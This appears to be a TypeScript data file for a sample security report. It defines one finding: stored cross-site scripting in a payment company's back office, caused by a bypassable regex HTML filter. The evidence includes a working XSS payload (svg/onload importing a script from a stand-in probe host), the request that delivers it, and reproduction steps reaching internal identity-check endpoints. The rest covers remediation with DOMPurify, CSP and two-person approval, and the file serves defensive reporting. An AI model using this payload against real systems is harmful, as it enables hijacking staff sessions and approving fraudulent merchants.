import { rate } from '#content/findings/rate.ts';
import { bullets, code, paragraph } from '#content/blocks.ts';
import type { ReportFinding } from '#content/sample-report/finding.ts';

export const backOfficeXss: ReportFinding = {
  id: 'MP-03',
  title: 'A merchant can run scripts in back-office staff’s browsers',
  summary:
    'Staff see dispute replies as HTML, cleaned only by a filter that can be bypassed, so a merchant can act with the agent’s permissions.',
  rating: rate({
    v31: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:H/A:N',
    v40: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:H/VI:H/VA:N/SC:L/SI:L/SA:N',
  }),
  ratingNote:
    'User Interaction is Passive: reading the dispute queue is part of an agent’s daily work. Impact is High, because agents can see and approve every merchant’s identity checks.',
  cwe: { id: 'CWE-79', name: 'Improper Neutralization of Input During Web Page Generation' },
  standard: 'WSTG-INPV-02',
  assets: ['backoffice.meridianpay.example, dispute view', 'Package @meridian/rich-text 1.9.0'],
  priority: 'Within 30 days',
  owner: 'Back-office team lead',
  description: [
    paragraph(
      'Merchants answer disputes in an editor that produces HTML. Before the HTML is stored, a homemade filter removes script elements and attributes that start with `on`. The back office then inserts the stored HTML into the page.',
    ),
    paragraph(
      'The filter treats the HTML as text and uses regular expressions. Browsers accept malformed markup, so the browser and the filter see different things. A slash between the element name and its attribute was enough.',
    ),
  ],
  evidence: [
    code(
      'http',
      'Request by the merchant',
      `
POST /v2/disputes/dsp_test_17/replies HTTP/1.1
Host: api.meridianpay.example
Authorization: Bearer <user of mer_test_a>
Content-Type: application/json

{"html":"<p>See attached.</p>{-<svg/onload=\\"import('https://probe.example/p.js')\\">-}"} {#1}
`,
      ['runs where staff read the reply'],
    ),
    code(
      'text',
      'What our probe reported 14 minutes later, when a test agent opened the queue',
      `
origin     https://backoffice.meridianpay.example
page       /disputes/dsp_test_17
user       agent.test.2 (role: disputes)
reachable  GET /internal/kyc/cases        200, 50 cases per page
reachable  POST /internal/kyc/cases/:id/approve   (not sent)
`,
    ),
  ],
  reproduction: [
    'Open a dispute as test merchant A and send the reply above, with a script on your own host.',
    'Open the same dispute in the back office as a test agent.',
    'Watch the network panel: the script is fetched from the other host and runs in the back office’s origin.',
    'From the console of that page, request `/internal/kyc/cases`. The request uses the agent’s session.',
  ],
  impact:
    'An attacker could read merchants’ identity documents in bulk, and approve the identity check for a company that doesn’t exist. The second is the larger risk, because a fake company could then receive card payments.',
  likelihood:
    'Medium. The attacker has to be an onboarded merchant with one open dispute, which they can create with a card payment to themselves. Staff open every reply.',
  remediation: [
    paragraph(
      'Sanitize on output, with a parser that works the way browsers do, and allow only a few elements. Add a content security policy so that the browser blocks any script that still gets through.',
    ),
    code(
      'typescript',
      'Proposed rendering of dispute replies',
      `
import DOMPurify from 'dompurify';

const allowed = { ALLOWED_TAGS: ['p', 'br', 'b', 'i', 'ul', 'ol', 'li'], ALLOWED_ATTR: [] };

export function replyHtml(stored: string): TrustedHTML {
  return DOMPurify.sanitize(stored, { ...allowed, RETURN_TRUSTED_TYPE: true });
}
`,
    ),
    bullets(
      'In the back office’s policy, set `script-src` with a nonce, limit `connect-src` to its own origin, and set `object-src` to none.',
      'Require a second person to approve an identity check. That limits the damage from this flaw and the next one.',
      'Remove the homemade filter from the shared package, so no other team builds on it.',
    ),
  ],
  references: [
    {
      label: 'OWASP Cross Site Scripting Prevention Cheat Sheet',
      url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
    },
    { label: 'DOMPurify', url: 'https://github.com/cure53/DOMPurify' },
    { label: 'CWE-79', url: 'https://cwe.mitre.org/data/definitions/79.html' },
  ],
  retest: {
    status: 'Fixed',
    date: '2026-04-21',
    note: 'We stored 61 replies that bypass filters of this kind. The back office showed all of them as harmless text, even with the policy header removed. Approval now requires two people.',
  },
};
